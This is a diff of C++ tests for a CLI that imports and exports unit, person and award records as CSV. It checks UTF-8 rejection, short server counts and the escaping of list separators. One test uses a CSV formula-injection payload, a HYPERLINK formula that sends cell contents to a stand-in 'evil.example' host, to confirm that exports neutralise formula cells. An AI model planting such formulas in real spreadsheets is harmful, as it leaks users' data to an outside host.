@@ -17,6 +17,9 @@
 #include "absl/time/civil_time.h"
 #include "absl/time/clock.h"
 #include "absl/time/time.h"
+#include "antt/awards/v1/awards.grpc.pb.h"
+#include "antt/registry/v1/registry.grpc.pb.h"
+#include "cli/csv.h"
 #include "tests/cli/anttctl_runner.h"
 #include "tests/testing/grpc_test_util.h"
 #include "tests/testing/process.h"
@@ -61,6 +64,82 @@ std::string InvalidTaxCode() {
   const std::string valid = ValidTaxCode(0);
   return valid.substr(0, 9) +
          static_cast<char>('0' + (valid[9] - '0' + 1) % 10);
+}
+
+// A registry that counts the first `keep` rows of an ImportUnits stream as
+// created, stops reading and answers OK, as antt-registry did when it could
+// not parse a row: the rows after it were counted nowhere.
+class ShortCountingRegistry final
+    : public registry::v1::RegistryService::Service {
+ public:
+  explicit ShortCountingRegistry(int keep) : keep_(keep) {}
+
+  grpc::Status ImportUnits(
+      grpc::ServerContext*,
+      grpc::ServerReader<registry::v1::ImportUnitsRequest>* reader,
+      registry::v1::ImportUnitsResponse* response) override {
+    registry::v1::ImportUnitsRequest request;
+    while (response->created() < keep_ && reader->Read(&request)) {
+      response->set_created(response->created() + 1);
+    }
+    return grpc::Status::OK;
+  }
+
+ private:
+  const int keep_;
+};
+
+// An awards service that answers a BatchNominate with the first nomination
+// created and nothing, not even an error, about the others.
+class ShortAnsweringAwards final : public awards::v1::AwardsService::Service {
+ public:
+  grpc::Status BatchNominate(
+      grpc::ServerContext*, const awards::v1::BatchNominateRequest* request,
+      awards::v1::BatchNominateResponse* response) override {
+    if (request->nominations_size() > 0) {
+      awards::v1::Nomination* n = response->add_nominations();
+      *n = request->nominations(0);
+      n->set_id("N0000000001");
+    }
+    return grpc::Status::OK;
+  }
+};
+
+// An awards service whose campaign has 20 proposed eligible nominations and
+// that fails every approval as a server in trouble would (INTERNAL), which
+// stops a bulk approval before it tries them all.
+class FailingAwards final : public awards::v1::AwardsService::Service {
+ public:
+  grpc::Status ListNominations(
+      grpc::ServerContext*, const awards::v1::ListNominationsRequest*,
+      awards::v1::ListNominationsResponse* response) override {
+    for (int i = 1; i <= 20; ++i) {
+      awards::v1::Nomination* n = response->add_nominations();
+      n->set_id(absl::StrCat("N00000000", i < 10 ? "0" : "", i));
+      n->set_stage(awards::v1::NOMINATION_STAGE_PROPOSED);
+      n->set_eligible(true);
+    }
+    response->set_total_size(20);
+    return grpc::Status::OK;
+  }
+  grpc::Status ApproveNomination(grpc::ServerContext*,
+                                 const awards::v1::ApproveNominationRequest*,
+                                 awards::v1::Nomination*) override {
+    return grpc::Status(grpc::StatusCode::INTERNAL, "the disk is full");
+  }
+};
+
+// Serves `service` in this process on a port of its own; returns its address.
+std::string ServeInProcess(grpc::Service* service,
+                           std::unique_ptr<grpc::Server>* server) {
+  grpc::ServerBuilder builder;
+  int port = 0;
+  builder.AddListeningPort("127.0.0.1:0", grpc::InsecureServerCredentials(),
+                           &port);
+  builder.RegisterService(service);
+  *server = builder.BuildAndStart();
+  EXPECT_NE(port, 0);
+  return absl::StrCat("127.0.0.1:", port);
 }
 
 class AnttctlTest : public ::testing::Test {
@@ -299,6 +378,124 @@ TEST_F(AnttctlTest, ImportReportsRowsRefusedHereAndByTheServerByFileRow) {
   EXPECT_EQ(units[1].value("name", ""), "Sở Tài chính");
 }
 
+TEST_F(AnttctlTest, ImportRefusesARowThatIsNotUtf8AndImportsTheOthers) {
+  // Row 3 was typed in a Latin-1 editor: "Café" with é as the byte 0xE9.
+  const std::string csv = Path("units.csv");
+  WriteFile(csv,
+            "external_id,name,kind,province_code\n"
+            "A1,Sở Tư pháp,agency,44\n"
+            "A2,Sở Xây dựng,agency,44\n"
+            "A3,Caf\xE9"
+            " Thu Bồn,agency,44\n"
+            "A4,Sở Y tế,agency,44\n"
+            "A5,Sở Tài chính,agency,44\n");
+  const Outcome o = Run({"units", "import", csv});
+  EXPECT_EQ(o.exit_code, 4) << o;
+  EXPECT_TRUE(absl::StrContains(o.out, "created 4, updated 0, rejected 1"))
+      << o;
+  const std::vector<std::string> lines = Lines(ReadFile(csv + ".errors.csv"));
+  ASSERT_EQ(lines.size(), 2u) << ReadFile(csv + ".errors.csv");
+  EXPECT_TRUE(absl::StartsWith(lines[1], "3,name,")) << lines[1];
+  EXPECT_TRUE(absl::StrContains(lines[1], "0xE9")) << lines[1];
+  EXPECT_TRUE(absl::StrContains(lines[1], "save the file as UTF-8"))
+      << lines[1];
+
+  const Outcome list = Run({"-o", "json", "units", "list"});
+  ASSERT_EQ(list.exit_code, 0) << list;
+  const nlohmann::json units = nlohmann::json::parse(list.out);
+  std::vector<std::string> imported;
+  for (const auto& unit : units.at("units")) {
+    imported.push_back(unit.value("external_id", ""));
+  }
+  EXPECT_EQ(imported, (std::vector<std::string>{"A1", "A2", "A4", "A5"}))
+      << list;
+}
+
+TEST_F(AnttctlTest, ImportOfAWindows1258FileRejectsEveryRow) {
+  // Vietnamese as Windows-1258 writes it: "Sở Tư pháp" is S, ơ (0xF5), a
+  // combining hook (0xD2), ...
+  const std::string csv = Path("units.csv");
+  WriteFile(csv,
+            "external_id,name,kind,province_code,address\n"
+            "A1,S\xF5\xD2 T\xFD ph\xE1p,agency,44,\xD0\xF4ng H\xE0\n"
+            "A2,S\xF5\xD2 Y t\xEA\xEC,agency,44,\n"
+            "S1,Tr\xFD\xF5\xCCng THPT Nguy\xEA\xDEn Du,education,44,\n");
+  const Outcome o = Run({"units", "import", csv});
+  EXPECT_EQ(o.exit_code, 4) << o;
+  EXPECT_TRUE(absl::StrContains(o.out, "created 0, updated 0, rejected 3"))
+      << o;
+  const std::vector<std::string> lines = Lines(ReadFile(csv + ".errors.csv"));
+  ASSERT_EQ(lines.size(), 5u) << ReadFile(csv + ".errors.csv");
+  EXPECT_TRUE(absl::StartsWith(lines[1], "1,name,")) << lines[1];
+  EXPECT_TRUE(absl::StartsWith(lines[2], "1,address,")) << lines[2];
+  EXPECT_TRUE(absl::StartsWith(lines[3], "2,name,")) << lines[3];
+  EXPECT_TRUE(absl::StartsWith(lines[4], "3,name,")) << lines[4];
+  for (size_t i = 1; i < lines.size(); ++i) {
+    EXPECT_TRUE(absl::StrContains(lines[i], "save the file as UTF-8"))
+        << lines[i];
+  }
+
+  const Outcome list = Run({"-o", "json", "units", "list"});
+  ASSERT_EQ(list.exit_code, 0) << list;
+  EXPECT_EQ(
+      nlohmann::json::parse(list.out).value("units", nlohmann::json::array()),
+      nlohmann::json::array())
+      << list;
+}
+
+TEST_F(AnttctlTest, PersonsImportRefusesARowThatIsNotUtf8) {
+  const std::string unit = CreateAgency("Sở Tư pháp", "A1");
+  // Row 2's name is "Trần Thị Bình" in Windows-1258.
+  const std::string csv = Path("persons.csv");
+  WriteFile(csv, absl::StrCat("full_name,gender,birth_year,unit_id,since\n"
+                              "Nguyễn Văn An,male,1970,",
+                              unit,
+                              ",2010-01-01\n"
+                              "Tr\xE2\xCCn Thi\xF2 Bi\xCCnh,female,1980,",
+                              unit,
+                              ",2015-03-01\n"
+                              "Lê Văn Cường,male,1985,",
+                              unit, ",2016-01-01\n"));
+  const Outcome o = Run({"-o", "csv", "persons", "import", csv});
+  EXPECT_EQ(o.exit_code, 4) << o;
+  const std::vector<std::string> lines = Lines(o.out);
+  ASSERT_EQ(lines.size(), 3u) << o;
+  EXPECT_TRUE(absl::StartsWith(lines[1], "1,P")) << o;
+  EXPECT_TRUE(absl::StartsWith(lines[2], "3,P")) << o;
+  EXPECT_TRUE(absl::StrContains(o.err, "2 created")) << o;
+  EXPECT_TRUE(absl::StrContains(o.err, "1 rejected")) << o;
+  const std::vector<std::string> errors = Lines(ReadFile(csv + ".errors.csv"));
+  ASSERT_EQ(errors.size(), 2u) << ReadFile(csv + ".errors.csv");
+  EXPECT_TRUE(absl::StartsWith(errors[1], "2,full_name,")) << errors[1];
+  EXPECT_TRUE(absl::StrContains(errors[1], "save the file as UTF-8"))
+      << errors[1];
+}
+
+TEST_F(AnttctlTest, ImportFailsWhenTheServerAccountsForFewerRowsThanSent) {
+  ShortCountingRegistry registry(/*keep=*/2);
+  std::unique_ptr<grpc::Server> server;
+  address_ = ServeInProcess(&registry, &server);
+  const std::string csv = Path("units.csv");
+  WriteFile(csv,
+            "external_id,name,kind,province_code\n"
+            "A1,Sở Tư pháp,agency,44\n"
+            "A2,Sở Xây dựng,agency,44\n"
+            "A3,Sở Y tế,agency,44\n"
+            "A4,Sở Tài chính,agency,44\n"
+            "A5,Sở Nội vụ,agency,44\n");
+  const Outcome o = Run({"units", "import", csv});
+  EXPECT_EQ(o.exit_code, 1) << o;
+  EXPECT_TRUE(absl::StrContains(o.out, "created 2, updated 0, rejected 0"))
+      << o;
+  EXPECT_TRUE(
+      absl::StrContains(o.err, "units import: the counts do not add up"))
+      << o;
+  const std::vector<std::string> lines = Lines(ReadFile(csv + ".errors.csv"));
+  ASSERT_EQ(lines.size(), 2u) << ReadFile(csv + ".errors.csv");
+  EXPECT_TRUE(absl::StartsWith(lines[1], "0,,\"the counts do not add up"))
+      << lines[1];
+}
+
 TEST_F(AnttctlTest, ImportRefusesUnknownAndMissingColumnsNamingThem) {
   const std::string csv = Path("units.csv");
   WriteFile(csv, "name,colour,province_code,size\nSở Tư pháp,red,44,1\n");
@@ -358,6 +555,121 @@ TEST_F(AnttctlTest, ExportThenImportUpdatesEveryRowAndCreatesNone) {
   const nlohmann::json summary = nlohmann::json::parse(json.out);
   EXPECT_EQ(summary.value("created", -1), 0) << json;
   EXPECT_EQ(summary.value("updated", -1), 3) << json;
+}
+
+TEST_F(AnttctlTest, ExportsGuardFormulaCellsAndImportTakesTheGuardOff) {
+  const std::string hyperlink =
+      "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Bấm vào đây\")";
+  const std::string csv = Path("units.csv");
+  WriteFile(csv,
+            "external_id,name,kind,province_code,managing_body,address,"
+            "headcount,models\n"
+            "-A7,\"=HYPERLINK(\"\"http://evil.example/?d=\"\"&A1,\"\"Bấm vào "
+            "đây\"\")\",agency,44,@Sở Nội vụ,+84 233 3852 123,12,"
+            "=1+1;Tổ tự quản\n");
+  const Outcome created = Run({"units", "import", csv});
+  ASSERT_EQ(created.exit_code, 0) << created;
+
+  const std::string exported = Path("export.csv");
+  const Outcome out = Run({"units", "export", "--file", exported});
+  ASSERT_EQ(out.exit_code, 0) << out;
+  const std::vector<std::string> lines = Lines(ReadFile(exported));
+  ASSERT_EQ(lines.size(), 2u) << ReadFile(exported);
+  // Text cells get a ' before a formula character; numbers, enums, booleans
+  // do not.
+  EXPECT_EQ(lines[1],
+            "U0000000001,'-A7,\"'=HYPERLINK(\"\"http://evil.example/?d=\"\"&A1,"
+            "\"\"Bấm vào đây\"\")\",agency,,,false,,44,,,,,province,,"
+            "'@Sở Nội vụ,'+84 233 3852 123,12,false,0,'=1+1;Tổ tự quản,active,"
+            "true,");
+  const Outcome list = Run({"-o", "csv", "units", "list"});
+  ASSERT_EQ(list.exit_code, 0) << list;
+  EXPECT_TRUE(absl::StrContains(
+      list.out, "U0000000001,\"'=HYPERLINK(\"\"http://evil.example/"))
+      << list;
+
+  // Imported back, the export changes nothing: every cell reads as it was.
+  const Outcome again = Run({"units", "import", exported});
+  EXPECT_EQ(again.exit_code, 0) << again;
+  EXPECT_TRUE(absl::StrContains(again.out, "created 0, updated 1, rejected 0"))
+      << again;
+  const Outcome got = Run({"-o", "json", "units", "get", "U0000000001"});
+  ASSERT_EQ(got.exit_code, 0) << got;
+  const nlohmann::json unit = nlohmann::json::parse(got.out);
+  EXPECT_EQ(unit.value("name", ""), hyperlink);
+  EXPECT_EQ(unit.value("external_id", ""), "-A7");
+  EXPECT_EQ(unit.value("managing_body", ""), "@Sở Nội vụ");
+  EXPECT_EQ(unit.value("address", ""), "+84 233 3852 123");
+  EXPECT_EQ(unit.at("models"), nlohmann::json::array({"=1+1", "Tổ tự quản"}));
+
+  // Persons too: the export and -o csv of the list.
+  const Outcome person =
+      Run({"persons", "create", "--name", "=1+2", "--gender", "male",
+           "--birth-year", "1970", "--unit", "U0000000001", "--since",
+           "2010-01-01", "--title", "@Tổ trưởng"});
+  ASSERT_EQ(person.exit_code, 0) << person;
+  const Outcome persons = Run({"persons", "export"});
+  ASSERT_EQ(persons.exit_code, 0) << persons;
+  EXPECT_TRUE(absl::StrContains(
+      persons.out,
+      ",'=1+2,male,1970,U0000000001,active,false,leader|@Tổ trưởng|"))
+      << persons;
+  const Outcome persons_csv = Run({"-o", "csv", "persons", "list"});
+  ASSERT_EQ(persons_csv.exit_code, 0) << persons_csv;
+  EXPECT_TRUE(absl::StrContains(persons_csv.out, ",'=1+2,male,1970,"))
+      << persons_csv;
+}
+
+TEST_F(AnttctlTest, TitlesAndModelsHoldingListSeparatorsComeBackWhole) {
+  const std::string title = "Tổ trưởng | phó; kiêm \\ thư ký";
+  const Outcome unit =
+      Run({"-o", "json", "units", "create", "--name", "Sở Tư pháp", "--kind",
+           "agency", "--province", "44", "--external-id", "A1", "--model",
+           "Tổ A; kiêm B", "--model", "Camera | an ninh\\"});
+  ASSERT_EQ(unit.exit_code, 0) << unit;
+  const std::string unit_id = nlohmann::json::parse(unit.out).value("id", "");
+  const Outcome person =
+      Run({"persons", "create", "--name", "Nguyễn Văn An", "--gender", "male",
+           "--birth-year", "1970", "--unit", unit_id, "--since", "2010-01-01",
+           "--title", title});
+  ASSERT_EQ(person.exit_code, 0) << person;
+
+  // The positions cell splits into one position of six fields again.
+  const Outcome persons = Run({"persons", "export"});
+  ASSERT_EQ(persons.exit_code, 0) << persons;
+  std::istringstream in(persons.out);
+  CsvReader reader(in);
+  ASSERT_TRUE(reader.ReadHeader().ok()) << persons;
+  CsvRecord record;
+  absl::Status error;
+  ASSERT_TRUE(reader.Next(&record, &error)) << persons;
+  ASSERT_TRUE(error.ok()) << error;
+  std::vector<std::vector<std::string>> positions;
+  for (const std::string& item :
+       SplitEscaped(reader.Get(record, "positions"), ';')) {
+    std::vector<std::string> fields;
+    for (const std::string& field : SplitEscaped(item, '|')) {
+      fields.push_back(UnescapeListValue(field));
+    }
+    positions.push_back(fields);
+  }
+  EXPECT_EQ(positions,
+            (std::vector<std::vector<std::string>>{
+                {"leader", title, unit_id, "2010-01-01", "", "false"}}))
+      << persons;
+
+  // An export imported back keeps each model whole.
+  const std::string exported = Path("export.csv");
+  ASSERT_EQ(Run({"units", "export", "--file", exported}).exit_code, 0);
+  const Outcome again = Run({"units", "import", exported});
+  EXPECT_EQ(again.exit_code, 0) << again;
+  EXPECT_TRUE(absl::StrContains(again.out, "created 0, updated 1, rejected 0"))
+      << again;
+  const Outcome got = Run({"-o", "json", "units", "get", unit_id});
+  ASSERT_EQ(got.exit_code, 0) << got;
+  EXPECT_EQ(nlohmann::json::parse(got.out).at("models"),
+            nlohmann::json::array({"Tổ A; kiêm B", "Camera | an ninh\\"}))
+      << got << ReadFile(exported);
 }
 
 TEST_F(AnttctlTest, PersonsImportTwiceCreatesEachPersonOnce) {
@@ -494,6 +806,95 @@ TEST_F(AnttctlTest,
   const Outcome list = Run({"-o", "csv", "assess", "list", "--all"});
   EXPECT_EQ(Lines(list.out).size(), 3u)
       << "the second run submitted nothing " << list;
+}
+
+TEST_F(AnttctlTest, SubmitAndNominateFilesRefuseARowThatIsNotUtf8) {
+  ASSERT_NO_FATAL_FAILURE(StartAwards());
+  const std::string a = CreateAgency("Sở Tư pháp", "A1");
+  const std::string b = CreateAgency("Sở Y tế", "A2");
+  // Row 2's event description is "Cháy kho" in Windows-1258 (á is 0xE1).
+  const std::string assessments = Path("assessments.csv");
+  WriteFile(assessments,
+            absl::StrCat("unit_id,year,points_total,events\n", a, ",2019,95,\n",
+                         b, ",2019,80,7.3.4@2019-03-01=Ch\xE1y kho\n", b,
+                         ",2018,90,\n"));
+  const Outcome submit = Run({"assess", "submit", "--file", assessments});
+  EXPECT_EQ(submit.exit_code, 4) << submit;
+  EXPECT_TRUE(absl::StrContains(submit.out, "2 submitted")) << submit;
+  EXPECT_TRUE(absl::StrContains(submit.out, "1 rows rejected")) << submit;
+  const std::vector<std::string> submit_errors =
+      Lines(ReadFile(assessments + ".errors.csv"));
+  ASSERT_EQ(submit_errors.size(), 2u) << ReadFile(assessments + ".errors.csv");
+  EXPECT_TRUE(absl::StartsWith(submit_errors[1], "2,events,"))
+      << submit_errors[1];
+  EXPECT_TRUE(absl::StrContains(submit_errors[1], "save the file as UTF-8"))
+      << submit_errors[1];
+
+  const int next_year =
+      absl::ToCivilYear(absl::Now(), absl::UTCTimeZone()).year() + 1;
+  const Outcome campaign =
+      Run({"-o", "json", "awards", "campaign", "create", "--title",
+           "Khen thưởng 2020–2024", "--from", "2020", "--to", "2024",
+           "--deadline", absl::StrCat(next_year, "-12-31")});
+  ASSERT_EQ(campaign.exit_code, 0) << campaign;
+  const std::string campaign_id =
+      nlohmann::json::parse(campaign.out).value("id", "");
+  // Row 2's achievements were saved in Latin-1 ("Café" with é as 0xE9).
+  const std::string nominations = Path("nominations.csv");
+  WriteFile(nominations,
+            absl::StrCat("award_type,unit_id,achievements\nBK_UBND_TINH,", a,
+                         ",Tốt\nBK_UBND_TINH,", b,
+                         ",Caf\xE9"
+                         " an toàn\nGK_CAT,",
+                         b, ",Tốt\n"));
+  const Outcome nominate = Run({"-o", "csv", "awards", "nominate", "--campaign",
+                                campaign_id, "--file", nominations});
+  EXPECT_EQ(nominate.exit_code, 4) << nominate;
+  const std::vector<std::string> lines = Lines(nominate.out);
+  ASSERT_EQ(lines.size(), 3u) << nominate;
+  EXPECT_TRUE(absl::StartsWith(lines[1], "1,")) << nominate;
+  EXPECT_TRUE(absl::StartsWith(lines[2], "3,")) << nominate;
+  EXPECT_TRUE(absl::StrContains(nominate.err, "2 nominated")) << nominate;
+  const std::vector<std::string> errors =
+      Lines(ReadFile(nominations + ".errors.csv"));
+  ASSERT_EQ(errors.size(), 2u) << ReadFile(nominations + ".errors.csv");
+  EXPECT_TRUE(absl::StartsWith(errors[1], "2,achievements,")) << errors[1];
+  EXPECT_TRUE(absl::StrContains(errors[1], "0xE9")) << errors[1];
+}
+
+TEST_F(AnttctlTest, NominateFailsWhenABatchIsAnsweredShort) {
+  ShortAnsweringAwards awards;
+  std::unique_ptr<grpc::Server> server;
+  awards_address_ = ServeInProcess(&awards, &server);
+  const std::string csv = Path("nominations.csv");
+  WriteFile(csv,
+            "award_type,unit_id,achievements\n"
+            "GK_CAT,U0000000001,Tốt\n"
+            "GK_CAT,U0000000002,Tốt\n"
+            "GK_CAT,U0000000003,Tốt\n");
+  const Outcome o = Run({"-o", "csv", "awards", "nominate", "--campaign",
+                         "C0000000001", "--file", csv});
+  EXPECT_EQ(o.exit_code, 1) << o;
+  EXPECT_EQ(Lines(o.out).size(), 2u) << o;  // the header and row 1
+  EXPECT_TRUE(absl::StrContains(o.err, "1 nominated")) << o;
+  EXPECT_TRUE(
+      absl::StrContains(o.err, "awards nominate: the counts do not add up"))
+      << o;
+  EXPECT_TRUE(absl::StrContains(o.err, "2 rows have no outcome")) << o;
+}
+
+TEST_F(AnttctlTest, ApproveEligibleStoppedByAServerErrorCountsOnlyWhatItDid) {
+  FailingAwards awards;
+  std::unique_ptr<grpc::Server> server;
+  awards_address_ = ServeInProcess(&awards, &server);
+  const Outcome o =
+      Run({"awards", "approve", "--campaign", "C0000000001", "--eligible"});
+  EXPECT_EQ(o.exit_code, 1) << o;
+  // Each of the 4 threads stops after its first failure: 16 or more untried.
+  EXPECT_TRUE(absl::StartsWith(o.out, "0 eligible nominations approved, "))
+      << o;
+  EXPECT_TRUE(absl::StrContains(o.out, " not tried\n")) << o;
+  EXPECT_TRUE(absl::StrContains(o.err, "stopped at an error")) << o;
 }
 
 TEST_F(AnttctlTest, ReviewAndRecognizeAWholeYearDecideEachByItsResult) {
